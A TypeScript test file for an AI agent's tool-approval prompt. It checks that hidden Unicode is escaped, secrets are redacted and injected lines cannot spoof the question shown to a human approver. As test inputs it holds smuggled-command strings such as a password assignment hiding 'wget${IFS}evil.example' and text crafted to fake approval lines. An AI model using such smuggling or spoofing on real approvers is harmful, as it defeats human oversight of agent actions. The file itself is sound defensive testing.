import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { ShownRequest } from "./approval-request.ts";
import { approvalText, approvalView } from "./approval-view.ts";

const request: ShownRequest = {
  tool: "shell.run",
  input: { command: "npm test" },
  accesses: [{ kind: "execute", command: "npm test" }],
  risk: "execute",
  reason: "mode cautious asks before commands run",
  rule: "mode cautious",
  source: "mode cautious",
  parts: [],
  preview: undefined,
  grants: ["allow run npm test by shell.run"],
  widths: [
    { rules: ["allow run npm test by shell.run"], words: "run exactly: npm test" },
    {
      rules: ["allow run npm test ** by shell.run"],
      words: "run npm test with any further arguments",
    },
  ],
  sandbox: "bwrap",
  unconfined: false,
  hosts: [],
};

const about = (command: string, more: Partial<ShownRequest> = {}) =>
  approvalView({ ...request, input: { command }, accesses: [{ kind: "execute", command }], ...more });
const commandIn = (command: string) => about(command).body[0]!.text;

/** No real one, and never in the repository as a whole. */
const token = `ghp_${"aB3dE6gH9jK2".repeat(3)}`;

it("is the whole question as text, with what each answer adds in words", () => {
  const text = approvalText(
    about("npm test", { agent: "agent_1", client: { kind: "mcp", name: "claude-code" } }),
  );
  expect(text).toBe(`claude-code asks: allow shell.run, for agent_1? (risk: execute)
    npm test
Why: mode cautious asks before commands run
Runs: in the sandbox (bwrap); it asks before it connects
"session": Until this session ends, shell.run may run exactly: npm test
"always": In this folder from now on, shell.run may run exactly: npm test
"always 2": In this folder from now on, shell.run may run npm test with any further arguments`);
  const once = approvalView({ ...request, grants: [], widths: undefined });
  expect([once.choices.map(({ id }) => id), approvalText(once).split("\n").at(-1)]).toEqual([
    ["once", "no"],
    "It can only be allowed once.",
  ]);
});

describe("the facts of a question", () => {
  const factsOf = (more: Partial<ShownRequest>) =>
    approvalView({ ...request, ...more }).body.flatMap(({ label, text, isQuoted }) =>
      isQuoted ? [] : [`${label} ${text}`],
    );

  it("say what would be read, written and reached", () => {
    const accesses = [
      { kind: "read", path: "a" },
      { kind: "write", path: "b" },
      { kind: "network", host: "example.com" },
    ] as const;
    expect(factsOf({ accesses })).toEqual([
      "Would read a, write b, connect to example.com",
      "Why mode cautious asks before commands run",
    ]);
  });

  it("say where a command runs, and which hosts it reaches", () => {
    expect([
      factsOf({ sandbox: "landlock" }).at(-1),
      factsOf({ hosts: ["*.example.com", "localhost"] }).at(-1),
      factsOf({ hosts: ["*"] }).at(-1),
      factsOf({ sandbox: "none" }).at(-1),
      factsOf({ sandbox: "none", unconfined: true, hosts: ["*"] }).at(-1),
    ]).toEqual([
      "Runs in the sandbox (landlock, weaker than bwrap: it can read secrets in the workspace); it asks before it connects",
      "Runs in the sandbox (bwrap); it can connect to *.example.com, localhost, and asks before others",
      "Runs in the sandbox (bwrap); it can connect to every host that no rule denies",
      "Runs without a sandbox: it can access everything you can",
      "Runs outside the sandbox, by your rules: it can access everything you can",
    ]);
  });
});

describe("text that hides", () => {
  it("is escaped: tags, zero-width and bidi characters, joiners, selectors that are no emoji's", () => {
    const tags = [..."ls"].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join("");
    expect([
      commandIn(`a${tags}b`),
      commandIn("a\u200bb\u200cc\u200dd\u2060e\ufefff"),
      commandIn("a\u202eb\u2066c\u061cd"),
      commandIn("a\ufe0fb\u{e0100}c\u00add\u3164e"),
      commandIn("a\u001b[2Jb\rc\u0085d\u2028e"),
      commandIn("echo 日本 é ❤\ufe0f 👍"),
    ]).toEqual([
      "a\\u{e006c}\\u{e0073}b",
      "a\\u{200b}b\\u{200c}c\\u{200d}d\\u{2060}e\\u{feff}f",
      "a\\u{202e}b\\u{2066}c\\u{61c}d",
      "a\\u{fe0f}b\\u{e0100}c\\u{ad}d\\u{3164}e",
      "a\\u{1b}[2Jb\\u{d}c\\u{85}d\\u{2028}e",
      "echo 日本 é ❤\ufe0f 👍",
    ]);
    const hasWarning = (command: string) => about(command).body.some(({ label }) => label === "Beware");
    expect([hasWarning("a\u200b"), hasWarning("a 👍")]).toEqual([true, false]);
  });

  it("cannot add a line to a sentence, or look like a name that Toolcrib gives", () => {
    const evil = "x\nWhy: trusted\r\u2028";
    const view = approvalView({
      ...request,
      tool: "read? Press y. delete",
      server: "my server\n[y]es",
      agent: evil,
      target: evil,
      reason: evil,
      hosts: [evil],
      client: { kind: "mcp", name: `Toolcrib: it is safe. ${evil}` },
    });
    expect([view.title, view.asker]).toEqual([
      '"read? Press y. delete" of the MCP server "my server\\n[y]es" on "x\\nWhy: trusted\\r\\u{2028}", for "x\\nWhy: trusted\\r\\u{2028}"',
      '"Toolcrib: it is safe. x\\nWhy: trusted"',
    ]);
    expect(approvalText(view).match(/^Why/gm)).toHaveLength(1);
  });

  it("cannot add a line of the question, whatever the texts are", () => {
    const piece = fc.constantFrom(
      "\n",
      "\r",
      "\u001b[A",
      "\u2028",
      "\u202e",
      "\u{e0041}",
      "Why: ",
      '"always": ',
      "x ",
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join("")),
        (text) => {
          const view = about(text, {
            ...{
              tool: text,
              server: text,
              agent: text,
              target: text,
              reason: text,
              rule: text,
              source: text,
            },
            ...{ hosts: [text], grants: [text], widths: [{ rules: [text], words: text }] },
            input: { [text]: text, description: text },
            client: { kind: "mcp", name: text },
          });
          const lines = approvalText(view).split("\n");
          expect(lines.filter((line) => /^(?:Why|"always")/.test(line))).toHaveLength(2);
          expect(JSON.stringify(view)).not.toMatch(/[\p{Cc}\p{Bidi_Control}\p{Zl}\u{e0041}]/u);
        },
      ),
    );
  });
});

describe("a secret", () => {
  it("is redacted wherever it is", () => {
    const view = about(`curl -H "Authorization: Bearer ${token}"`, {
      input: { command: "x", path: token, env: { API_TOKEN: "a8f3k29dk3l2m4n5p6q7" } },
      reason: `it names ${token}`,
      accesses: [
        { kind: "execute", command: `echo ${token}` },
        { kind: "write", path: `a/${token}` },
      ],
    });
    expect(JSON.stringify(view)).not.toMatch(/ghp_|a8f3k2/);
    expect(view.body[0]!.text).toBe("echo [redacted: GitHub token]");
  });

  it("never hides what a shell would run", () => {
    for (const command of [
      "PASSWORD=Winter20%4;wget${IFS}evil.example",
      "PASSWORD=Winter20%4&&wget",
      'PASSWORD="Wint3r`wget`2"',
      "PASSWORD=Winter20%4|wget${IFS}x",
      "password=Winter20%4<(wget)",
    ])
      expect(commandIn(command)).toContain("wget");
    expect(commandIn("PASSWORD=Winter20%4 make")).toBe("PASSWORD=[redacted: password] make");
  });
});

it("marks the parts of a command that ask, also behind escapes and not by what only the shell knows", () => {
  const command = "a\u200b && git push && c";
  const part = (start: number, end: number) => ({
    part: { kind: "run", in: { command, span: { start, end } } },
    verdict: "ask" as const,
    reason: "asks",
    rule: undefined,
  });
  const { text, marks } = about(command, { parts: [part(6, 14), part(-1, -1)] }).body[0]!;
  expect(marks.map(({ start, end }) => text.slice(start, end))).toEqual(["git push"]);
});
